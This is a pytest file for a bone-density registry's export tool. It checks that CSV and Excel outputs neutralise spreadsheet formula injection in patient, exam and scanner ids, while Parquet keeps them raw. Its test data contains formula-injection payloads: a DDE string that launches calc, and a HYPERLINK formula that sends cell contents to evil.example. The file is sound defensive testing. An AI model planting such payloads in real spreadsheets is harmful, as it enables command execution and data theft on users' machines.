"""Exports opened in a spreadsheet: no cell is read as a formula or a link, whatever the ids.

A patient id, exam id or scanner serial starting with `=`, `+`, `-`, `@`, a tab or a
carriage return is written with a leading `'` in every CSV and Excel file that leaves the
registry (OWASP's rule); a cell that is a whole real number is left as it is, and Parquet
keeps the data exactly as the registry holds it.
"""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from exam_rows import make_row, write_csv
from openpyxl.utils.escape import unescape
from sample_registry import load_sample_registry
from typer.testing import CliRunner

from pipelines.cli.commands import app
from pipelines.readers import compare
from pipelines.readers.reporting.model import Report, Section, counts, text
from pipelines.readers.reporting.render_text import to_csv
from pipelines.readers.spreadsheet_cells import neutralise
from pipelines.readers.worklist_files import TEXT_CELLS_NOTE, write_worklist

runner = CliRunner()

PAYLOADS = (
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
#: Reading a row strips a leading tab or carriage return from its cells; the quarantine
#: list's patient id comes from the row as sent, so it keeps all six.
LOADABLE = PAYLOADS[:4]
ID_COLUMNS = ("patient_id", "exam_id", "scanner_serial")
AS_OF = "2030-01-01"  # every exam's follow-up is overdue by then
T_SCORE = -2.8  # osteoporosis: a treatment candidate


def marked(values: tuple[str, ...] | list[str]) -> list[str]:
    return sorted("'" + v for v in values)


def test_each_formula_start_is_marked_and_whole_numbers_are_not() -> None:
    cells = [*PAYLOADS, "-2.5", "+3", "-1e-3", ".5", "-5.", "x=1", "P-1", "", None, "-",
             "-2.5 ", "--2", "-inf"]
    frame = pl.DataFrame({"c": cells, "n": range(len(cells))})
    got = neutralise(frame)
    assert got["c"].to_list() == [
        *("'" + p for p in PAYLOADS), "-2.5", "+3", "-1e-3", ".5", "-5.", "x=1", "P-1", "",
        None, "'-", "'-2.5 ", "'--2", "'-inf"]
    assert got["n"].to_list() == list(range(len(cells))) and got.schema == frame.schema


def _hostile_frame() -> pl.DataFrame:
    """Each payload in each id column, a number kept as a number and one as text."""
    return pl.DataFrame({
        **{column: [*PAYLOADS, "-2.5"] for column in ID_COLUMNS},
        "diagnostic_t_score": [T_SCORE] * len(PAYLOADS) + [-2.5],
        "exam_date": [dt.date(2024, 3, 1)] * (len(PAYLOADS) + 1),
    })


def read_xlsx(path: Path) -> dict[str, list]:
    """The list sheet's columns; fails on any formula or link anywhere in the workbook."""
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    # a carriage return is stored as OOXML's escape `_x000D_`, which Excel reads back as
    # the character (openpyxl leaves it escaped)
    return {name: [unescape(row[i]) if isinstance(row[i], str) else row[i] for row in rows[1:]]
            for i, name in enumerate(rows[0])}


def read_csv(path: Path) -> dict[str, list]:
    frame = pl.read_csv(path, infer_schema=False)
    return {name: frame[name].to_list() for name in frame.columns}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_writer_marks_every_payload_in_every_text_column(tmp_path: Path,
                                                              suffix: str) -> None:
    out = tmp_path / f"list{suffix}"
    write_worklist(_hostile_frame(), out, {"list": "test"}, sheet="list")
    columns = (read_csv if suffix == ".csv" else read_xlsx)(out)
    for column in ID_COLUMNS:
        assert columns[column] == [*("'" + p for p in PAYLOADS), "-2.5"], column
    if suffix == ".xlsx":  # numbers stay numbers; text that is a number stays text
        sheet = openpyxl.load_workbook(out)["list"]
        assert [c.data_type for c in sheet["D"][1:]] == ["n"] * (len(PAYLOADS) + 1)
        assert columns["diagnostic_t_score"] == [T_SCORE] * len(PAYLOADS) + [-2.5]
        assert sheet["A8"].data_type == "s" and sheet["A8"].value == "-2.5"
        about = dict(openpyxl.load_workbook(out)["about"].iter_rows(values_only=True))
        assert about["text cells"] == TEXT_CELLS_NOTE
    else:
        assert columns["diagnostic_t_score"] == [str(T_SCORE)] * len(PAYLOADS) + ["-2.5"]


def test_link_like_ids_are_plain_strings_in_excel(tmp_path: Path) -> None:
    """Not a formula start, so not marked; xlsxwriter would still make them links."""
    links = ["http://evil.example/?d=1", "mailto:someone@evil.example", "external:c:\\x"]
    out = tmp_path / "list.xlsx"
    write_worklist(pl.DataFrame({"patient_id": links}), out, {"list": "test"}, sheet="list")
    assert read_xlsx(out)["patient_id"] == links


def test_parquet_keeps_the_ids_as_they_are(tmp_path: Path) -> None:
    out = tmp_path / "list.parquet"
    write_worklist(_hostile_frame(), out, {"list": "test"}, sheet="list")
    assert pl.read_parquet(out).equals(_hostile_frame())


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A registry whose ids and serials are the payloads: the loadable ones as exams that
    are treatment candidates (and overdue by AS_OF), every one as a refused row."""
    folder = tmp_path_factory.mktemp("hostile")
    exports = folder / "exports"
    exports.mkdir()
    write_csv(exports / "valid.csv", [
        make_row(exam_id=p, patient_id=p, scanner_serial=p, femoral_neck_t=T_SCORE)
        for p in LOADABLE])
    write_csv(exports / "refused.csv", [
        make_row(exam_id=p, patient_id=p, scanner_serial=p, sex="") for p in PAYLOADS])
    return load_sample_registry(folder / "registry.duckdb", source=exports)


#: (list, its id columns and the values the registry holds in them)
LISTS = [
    ("treatment-candidates", {c: LOADABLE for c in ID_COLUMNS}),
    ("overdue", {c: LOADABLE for c in ID_COLUMNS}),
    ("quarantine", {"patient_id": PAYLOADS,
                    "exam_id": tuple(p.strip() for p in PAYLOADS)}),
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize(("kind", "held"), LISTS, ids=[k for k, _ in LISTS])
def test_dxa_export_writes_no_formula(hostile_db: Path, tmp_path: Path, suffix: str,
                                      kind: str, held: dict[str, tuple[str, ...]]) -> None:
    out = tmp_path / f"{kind}{suffix}"
    result = runner.invoke(app, ["export", kind, "--db", str(hostile_db), "--output",
                                 str(out), "--as-of", AS_OF])
    assert result.exit_code == 0, result.output
    columns = (read_csv if suffix == ".csv" else read_xlsx)(out)
    for column, values in held.items():
        assert sorted(columns[column]) == marked(values), column
    if kind == "treatment-candidates":  # a negative number is written as it is
        expected = T_SCORE if suffix == ".xlsx" else str(T_SCORE)
        assert columns["diagnostic_t_score"] == [expected] * len(LOADABLE)


@pytest.mark.parametrize(("kind", "held"), LISTS, ids=[k for k, _ in LISTS])
def test_dxa_export_parquet_keeps_the_ids(hostile_db: Path, tmp_path: Path, kind: str,
                                          held: dict[str, tuple[str, ...]]) -> None:
    out = tmp_path / f"{kind}.parquet"
    result = runner.invoke(app, ["export", kind, "--db", str(hostile_db), "--output",
                                 str(out), "--as-of", AS_OF])
    assert result.exit_code == 0, result.output
    rows = pl.read_parquet(out)
    for column, values in held.items():
        assert sorted(rows[column]) == sorted(values), column


def test_the_report_csv_marks_text_cells_and_keeps_numbers() -> None:
    section = Section("scanners", "scanners", (text("scanner"), counts("exams")),
                      tuple((p, -3) for p in PAYLOADS))
    written = to_csv(Report("registry", "r", dt.date(2030, 1, 1), (section,)))
    rows = pl.read_csv(io.StringIO(written), infer_schema=False)
    assert rows["scanner"].to_list() == ["'" + p for p in PAYLOADS]
    assert rows["exams"].to_list() == ["-3"] * len(PAYLOADS)
    assert rows["section"].to_list() == ["scanners"] * len(PAYLOADS)


def test_dxa_compare_csv_marks_text_cells(hostile_db: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    cells = pl.DataFrame({"from": list(PAYLOADS), "to": ["normal"] * len(PAYLOADS),
                          "patients": [-1] * len(PAYLOADS), "top_reasons": list(PAYLOADS)})
    hostile = compare.Comparison("a@1", "b@1", None, 6, {"treatment": cells})
    monkeypatch.setattr(compare, "compare_rulesets", lambda *_args: hostile)
    result = runner.invoke(app, ["compare", "--db", str(hostile_db), "a", "b",
                                 "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = pl.read_csv(io.StringIO(result.stdout), infer_schema=False)
    assert rows["from"].to_list() == rows["top_reasons"].to_list() == [
        "'" + p for p in PAYLOADS]
    assert rows["patients"].to_list() == ["-1"] * len(PAYLOADS)
